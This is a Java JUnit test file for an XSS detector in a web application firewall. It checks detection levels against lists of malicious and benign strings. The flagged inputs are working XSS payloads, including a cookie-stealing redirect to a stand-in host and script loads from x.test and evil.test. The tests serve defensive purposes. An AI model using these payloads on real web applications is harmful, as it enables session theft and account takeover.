package dev.moor.edge.waf;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

class XssDetectorTest {
    private final XssDetector level1 = new XssDetector(1);
    private final XssDetector level2 = new XssDetector(2);
    private final XssDetector level3 = new XssDetector(3);

    @ParameterizedTest
    @ValueSource(strings = {
            "<script>fetch('//x.test')</script>", "<ScRiPt SRC=//x.test/a.js>", "<img src=x onerror=prompt(7)>",
            "<svg/onload=confirm(1)>", "<iframe src=\"javascript:alert(1)\">", "<a href=\" jav\tascript:x()\">a</a>",
            "<object data=\"data:text/html,<b>x</b>\">", "<embed src=x.swf>", "<base href=//evil.test/>",
            "<meta http-equiv=refresh content=0;url=//x.test>", "<div style=\"width:expression(alert(1))\">",
            "<p style=\"background:url( 'javascript:x()' )\">", "<iframe srcdoc=\"<img src=1 onerror=x()>\">",
            "\" onmouseover=\"alert(1)", "' autofocus onfocus='x()", "x onclick=doit()", "\"><svg onload=x()>",
            "javascript:alert(document.domain)", "vbscript:msgbox(1)", "\";alert(1)//", "';document.location='//x.test/?'+document.cookie//",
            "{{constructor.constructor('x()')()}}", "self['al'+'ert'](1)", "top[\"alert\"](1)", "alert`1`",
            "<style>@import 'http://x.test/a.css';</style>", "x.innerHTML = y", "!![]+[][[]]"})
    void flagsScriptAtLevel1(String value) {
        assertThat(level1.inspect(value)).as(value).isNotNull();
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "I <3 this product", "if a < b and b > c then", "Price < $20 and > $10", "x<y", "a -> b", "5 > 3",
            "alice@example.com", "https://example.com/search?q=a&b=c#top", "JavaScript: The Good Parts",
            "Please confirm (or deny) the booking", "document.pdf", "window.jpg", "I'm \"fine\" = OK",
            "data:image/png;base64,iVBORw0KGgo=", "Use the onload event handler", "C:\\Program Files\\x",
            "**bold** and `code` in [a link](https://x.test/?a=1)", "Ünïcödé and 中文 and عربي"})
    void passesLookAlikesAtLevel2(String value) {
        assertThat(level2.inspect(value)).as(value).isNull();
    }

    @ParameterizedTest
    @ValueSource(strings = {"<svg>", "<form action=/x>", "<b class=x>bold</b>", "setTimeout(f, 1)"})
    void level2FlagsWhatLevel1Lets(String value) {
        assertThat(level1.inspect(value)).as(value).isNull();
        assertThat(level2.inspect(value)).as(value).isNotNull();
    }

    @ParameterizedTest
    @ValueSource(strings = {"<b>bold</b>", "<!-- note -->", "<p>"})
    void level3FlagsPlainMarkupThatLevel2Lets(String value) {
        assertThat(level2.inspect(value)).as(value).isNull();
        assertThat(level3.inspect(value)).as(value).isNotNull();
    }
}
